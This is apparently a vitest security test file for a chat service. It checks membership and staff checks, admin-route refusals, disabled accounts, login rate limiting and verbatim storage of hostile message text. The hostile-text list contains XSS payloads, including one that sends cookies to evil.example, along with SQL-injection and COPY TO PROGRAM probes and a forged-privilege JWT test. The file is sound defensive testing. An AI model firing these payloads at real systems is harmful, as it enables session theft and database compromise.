/**
 * Authorization on every action, every time, through the gateway as a client reaches it: membership for
 * sends, staff for staff-only history, admin for administration, enabled accounts for logins and sockets,
 * rate limits for password guessing, and hostile text kept as data.
 */
import { HandshakeRefused, openSocket } from '@chat/test-kit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ed25519, jwt } from '@chat/test-kit';
import { type Stack as SecurityStack, startStack as startSecurityStack } from '../stack.js';

let stack: SecurityStack;
let tried = 0;
beforeAll(async () => {
  stack = await startSecurityStack();
}, 60_000);
afterAll(async () => {
  console.log(`[reliability] hostile inputs: ${tried} (unauthorized actions and hostile texts)`);
  await stack?.stop();
});

const claimsOf = (token: string) => JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString());

describe('a socket acts only in rooms it joined', () => {
  it('send, history and leave in a room not joined get NOT_IN_ROOM, and nothing reaches the room', async () => {
    const room = await stack.room('Members Only');
    const member = await stack.socket((await stack.user()).token);
    await member.request({ type: 'join', room });
    const outsider = await stack.socket((await stack.user()).token);
    for (const frame of [
      { type: 'send', room, text: 'let me in' },
      { type: 'history', room },
      { type: 'leave', room },
    ]) {
      tried++;
      const reply = await outsider.request(frame);
      expect(!reply.ok && reply.error.code, frame.type).toBe('NOT_IN_ROOM');
    }
    // After leaving, and after a refused join, the socket is an outsider again.
    await outsider.request({ type: 'join', room });
    await outsider.request({ type: 'leave', room });
    const afterLeave = await outsider.request({ type: 'send', room, text: 'still here?' });
    expect(!afterLeave.ok && afterLeave.error.code).toBe('NOT_IN_ROOM');
    const staffRoom = await stack.room('Back Office', true);
    const refused = await outsider.request({ type: 'join', room: staffRoom });
    expect(!refused.ok && refused.error.code).toBe('ROOM_ACCESS_DENIED');
    const afterRefusal = await outsider.request({ type: 'send', room: staffRoom, text: 'sneaking in' });
    expect(!afterRefusal.ok && afterRefusal.error.code).toBe('NOT_IN_ROOM');
    tried += 3;
    // The member heard none of it: only the outsider's own join/leave notices.
    await member.request({ type: 'ping' });
    expect(member.frames.filter((f) => f.type === 'message')).toHaveLength(0);
  });

  it('a membership is per socket: the same user on a second socket is not in the room', async () => {
    tried++;
    const room = await stack.room('Per Socket');
    const u = await stack.user();
    const first = await stack.socket(u.token);
    await first.request({ type: 'join', room });
    const second = await stack.socket(u.token);
    const reply = await second.request({ type: 'send', room, text: 'hi' });
    expect(!reply.ok && reply.error.code).toBe('NOT_IN_ROOM');
  });
});

describe('staff-only rooms over REST', () => {
  it('a non-staff user gets 403 ROOM_ACCESS_DENIED for the history, by bearer and by cookie; staff get it', async () => {
    const room = await stack.room('Staff Room', true);
    const staff = await stack.user({ isStaff: true });
    const s = await stack.socket(staff.token);
    await s.request({ type: 'join', room });
    await s.request({ type: 'send', room, text: 'staff secret' });
    const plain = await stack.user();
    tried += 4;
    for (const path of [
      `/api/rooms/${room}/messages`,
      `/api/rooms/${room}/messages?limit=100`,
      `/api/rooms/${room}/messages?before=2`,
    ]) {
      const res = await stack.call('GET', path, { token: plain.token });
      expect(res.status, path).toBe(403);
      expect(res.body.code).toBe('ROOM_ACCESS_DENIED');
      expect(JSON.stringify(res.body)).not.toContain('staff secret');
    }
    const byCookie = await stack.call('GET', `/api/rooms/${room}/messages`, {
      headers: { cookie: `chat_session=${plain.token}` },
    });
    expect(byCookie.status).toBe(403);
    const allowed = await stack.call('GET', `/api/rooms/${room}/messages`, { token: staff.token });
    expect(allowed.status).toBe(200);
    expect(allowed.body.messages.map((m: { text: string }) => m.text)).toContain('staff secret');
  });

  it('a token claiming isStaff does not open the room: the flags come from the auth service', async () => {
    tried++;
    const room = await stack.room('Staff Claims', true);
    const plain = await stack.user();
    const claimsStaff = jwt(
      { alg: 'EdDSA', typ: 'JWT' },
      { ...claimsOf(plain.token), isStaff: true, isAdmin: true },
      ed25519(stack.keys.privateKey),
    );
    const res = await stack.call('GET', `/api/rooms/${room}/messages`, { token: claimsStaff });
    expect(res.status).toBe(403);
    expect(res.body.code).toBe('ROOM_ACCESS_DENIED');
    const s = await stack.socket(claimsStaff);
    const join = await s.request({ type: 'join', room });
    expect(!join.ok && join.error.code).toBe('ROOM_ACCESS_DENIED');
  });

  it('a user demoted from staff is refused at once, with the same token', async () => {
    tried++;
    const room = await stack.room('Demotion', true);
    const staff = await stack.user({ isStaff: true });
    expect((await stack.call('GET', `/api/rooms/${room}/messages`, { token: staff.token })).status).toBe(200);
    await stack.call('PATCH', `/api/auth/users/${staff.id}`, { token: stack.adminToken, body: { isStaff: false } });
    const res = await stack.call('GET', `/api/rooms/${room}/messages`, { token: staff.token });
    expect(res.status).toBe(403);
    expect(res.body.code).toBe('ROOM_ACCESS_DENIED');
  });
});

describe('administration', () => {
  it('every admin route answers 403 FORBIDDEN to users and staff, 401 without a token, and changes nothing', async () => {
    const victim = await stack.user();
    const room = await stack.room('Admin Target');
    const plain = await stack.user();
    const staff = await stack.user({ isStaff: true });
    const claimsAdmin = jwt(
      { alg: 'EdDSA', typ: 'JWT' },
      { ...claimsOf(plain.token), isAdmin: true },
      ed25519(stack.keys.privateKey),
    );
    const routes: [string, string, unknown?][] = [
      ['GET', '/api/auth/users'],
      ['POST', '/api/auth/users', { username: 'intruder', password: 'intruder-password', isAdmin: true }],
      ['PATCH', `/api/auth/users/${victim.id}`, { disabled: true }],
      ['PATCH', `/api/auth/users/${plain.id}`, { isAdmin: true }],
      ['DELETE', `/api/auth/users/${victim.id}`],
      ['POST', '/api/rooms', { title: 'Intruder Room' }],
      ['PATCH', `/api/rooms/${room}`, { staffOnly: true }],
      ['DELETE', `/api/rooms/${room}`],
    ];
    for (const [method, path, body] of routes) {
      for (const [who, token] of [
        ['user', plain.token],
        ['staff', staff.token],
        ['a user whose signed token claims isAdmin', claimsAdmin],
      ] as const) {
        tried++;
        const res = await stack.call(method, path, { token, ...(body !== undefined ? { body } : {}) });
        expect(res.status, `${method} ${path} as ${who}`).toBe(403);
        expect(res.body.code).toBe('FORBIDDEN');
      }
      tried++;
      const anonymous = await stack.call(method, path, body !== undefined ? { body } : {});
      expect(anonymous.status, `${method} ${path} without a token`).toBe(401);
    }
    // Nothing changed: the victim still logs in, the room is still open, no intruder exists, plain is no admin.
    expect(
      (await stack.call('POST', '/api/auth/login', { body: { username: victim.username, password: victim.password } }))
        .status,
    ).toBe(200);
    const rooms = await stack.call('GET', '/api/rooms', { token: plain.token });
    expect(rooms.body).toContainEqual({ id: room, title: 'Admin Target', staffOnly: false, epoch: expect.any(Number) });
    expect(rooms.body.map((r: { title: string }) => r.title)).not.toContain('Intruder Room');
    const users = await stack.call('GET', '/api/auth/users', { token: stack.adminToken });
    expect(users.body.map((u: { username: string }) => u.username)).not.toContain('intruder');
    expect(users.body.find((u: { id: string }) => u.id === plain.id).isAdmin).toBe(false);
  });
});

describe('a disabled account', () => {
  it('cannot log in nor open a socket, even with a correctly signed token of its current session', async () => {
    const u = await stack.user();
    await stack.call('PATCH', `/api/auth/users/${u.id}`, { token: stack.adminToken, body: { disabled: true } });
    tried += 3;
    const login = await stack.call('POST', '/api/auth/login', { body: { username: u.username, password: u.password } });
    expect(login.status).toBe(403);
    expect(login.body.code).toBe('USER_DISABLED');
    expect(login.body.token).toBeUndefined();
    // The old token's session ended when the account was disabled.
    await expect(openSocket(stack.wsUrl, { token: u.token })).rejects.toMatchObject({ status: 401 });
    // A token of the current session (as if stolen from the database's point of view) meets the disabled flag.
    const current = jwt(
      { alg: 'EdDSA', typ: 'JWT' },
      { ...claimsOf(u.token), sv: claimsOf(u.token).sv + 1 },
      ed25519(stack.keys.privateKey),
    );
    const refused = await openSocket(stack.wsUrl, { token: current }).catch((err: unknown) => err);
    expect(refused).toBeInstanceOf(HandshakeRefused);
    expect((refused as HandshakeRefused).status).toBe(403);
    const me = await stack.call('GET', '/api/auth/me', { token: current });
    expect(me.status).toBe(403);
    expect(me.body.code).toBe('USER_DISABLED');
    // Enabled again, the account logs in as before.
    await stack.call('PATCH', `/api/auth/users/${u.id}`, { token: stack.adminToken, body: { disabled: false } });
    expect(
      (await stack.call('POST', '/api/auth/login', { body: { username: u.username, password: u.password } })).status,
    ).toBe(200);
  });
});

describe('hostile message text', () => {
  const texts = [
    '<script>alert(document.cookie)</script>',
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    '"><svg/onload=alert(1)>',
    'javascript:alert(1)',
    '<a href="javascript:alert(1)">click</a> &amp; &lt;b&gt;',
    "'; DROP TABLE rooms.messages; --",
    "Robert'); DELETE FROM auth.users WHERE ('1'='1",
    '" OR ""="',
    '1; SELECT pg_sleep(10)',
    "$$; COPY (SELECT '') TO PROGRAM 'id'; $$",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
    '\\x00\\\\ %s %n %x {0} ${7*7} {{7*7}} <%= 7*7 %>',
    '{"__proto__":{"polluted":true}}',
  ];

  it('is stored and returned verbatim: in the reply, the live event, the join history and REST history', async () => {
    const room = await stack.room('Verbatim');
    const author = await stack.socket((await stack.user()).token);
    const reader = await stack.socket((await stack.user()).token);
    await author.request({ type: 'join', room });
    await reader.request({ type: 'join', room });
    for (const text of texts) {
      tried++;
      const reply = await author.request({ type: 'send', room, text });
      expect(reply.ok && (reply.data as { text: string }).text).toBe(text);
      await reader.waitFor((f) => f.type === 'message' && f.message.text === text);
    }
    const late = await stack.socket((await stack.user()).token);
    const join = await late.request({ type: 'join', room });
    expect(join.ok && (join.data as { messages: { text: string }[] }).messages.map((m) => m.text)).toEqual(texts);
    const rest = await stack.call('GET', `/api/rooms/${room}/messages`, { token: stack.adminToken });
    expect(rest.headers.get('content-type')).toMatch(/^application\/json/);
    expect(rest.body.messages.map((m: { text: string }) => m.text)).toEqual(texts);
    // The tables the SQL-looking texts name are all still there and working.
    expect((await author.request({ type: 'send', room, text: 'after all that' })).ok).toBe(true);
    expect((await stack.call('GET', '/api/auth/users', { token: stack.adminToken })).status).toBe(200);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('password guessing', () => {
  const PER_ACCOUNT = 5;
  const PER_ADDRESS = 3;
  const limits = { LOGIN_FAILURES_PER_ACCOUNT: String(PER_ACCOUNT), LOGIN_FAILURES_PER_ADDRESS: String(PER_ADDRESS) };
  // Two stacks: one whose gateway trusts the test (it connects from loopback, like a proxy in front of the
  // gateway would), and one whose gateway trusts only a load balancer elsewhere, so the test is a client.
  let guarded: SecurityStack;
  let exposed: SecurityStack;
  let authBase: string;
  beforeAll(async () => {
    [guarded, exposed] = await Promise.all([
      startSecurityStack({ authEnv: limits }),
      startSecurityStack({ authEnv: limits, gatewayEnv: { TRUST_PROXY: '192.0.2.1' } }),
    ]);
    const address = guarded.apps.auth.server.address();
    authBase = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    // Made without logging in, so that no attempt is spent before the tests count them.
    for (const stack of [guarded, exposed]) {
      for (const username of ['victim', 'bystander', 'colleague']) {
        await stack.call('POST', '/api/auth/users', {
          token: stack.adminToken,
          body: { username, password: `${username}-password` },
        });
      }
    }
  }, 60_000);
  afterAll(() => Promise.all([guarded?.stop(), exposed?.stop()]));

  const attempt = (base: string, username: string, password: string, forwardedFor: string) =>
    fetch(`${base}/api/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': forwardedFor },
      body: JSON.stringify({ username, password }),
    }).then(async (res) => ({
      status: res.status,
      retryAfter: res.headers.get('retry-after'),
      body: (await res.json()) as { code?: string },
    }));

  it('is limited per username, whatever address the guesses come from and however the name is cased', async () => {
    // Straight to the auth service, which trusts X-Forwarded-For from loopback: each guess from a new address.
    const statuses: number[] = [];
    for (let i = 0; i < PER_ACCOUNT + 2; i++) {
      tried++;
      const name = i % 2 ? 'VICTIM' : 'victim';
      statuses.push((await attempt(authBase, name, `guess-${i}`, `203.0.113.${i + 1}`)).status);
    }
    expect(statuses.slice(0, PER_ACCOUNT)).toEqual(Array(PER_ACCOUNT).fill(401));
    expect(statuses.slice(PER_ACCOUNT)).toEqual([429, 429]);
    // Even the right password is refused now, with the documented code and a time to come back.
    const right = await attempt(authBase, 'victim', 'victim-password', '203.0.113.200');
    expect(right.status).toBe(429);
    expect(right.body.code).toBe('RATE_LIMITED');
    expect(Number(right.retryAfter)).toBeGreaterThanOrEqual(1);
    // Another account is not locked by it.
    expect((await attempt(authBase, 'bystander', 'bystander-password', '203.0.113.201')).status).toBe(200);
  });

  it('counts two clients apart behind the gateway when a trusted proxy names them', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < PER_ADDRESS + 1; i++) {
      tried++;
      statuses.push((await attempt(guarded.base, `nobody${i}`, 'guess', '198.51.100.1')).status);
    }
    expect(statuses).toEqual([...Array(PER_ADDRESS).fill(401), 429]);
    // The guesser's colleague elsewhere is still let in, through the same gateway and the same proxy.
    expect((await attempt(guarded.base, 'colleague', 'colleague-password', '198.51.100.2')).status).toBe(200);
    expect((await attempt(guarded.base, 'colleague', 'colleague-password', '198.51.100.1')).status).toBe(429);
  });

  it('cannot be escaped with a forged X-Forwarded-For when the gateway does not trust the client', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < PER_ADDRESS + 1; i++) {
      tried++;
      statuses.push((await attempt(exposed.base, `nobody${i}`, 'guess', `198.51.100.${i + 1}`)).status);
    }
    expect(statuses).toEqual([...Array(PER_ADDRESS).fill(401), 429]);
    const right = await attempt(exposed.base, 'bystander', 'bystander-password', '192.0.2.77');
    expect(right.status).toBe(429);
    expect(right.body.code).toBe('RATE_LIMITED');
  });
});
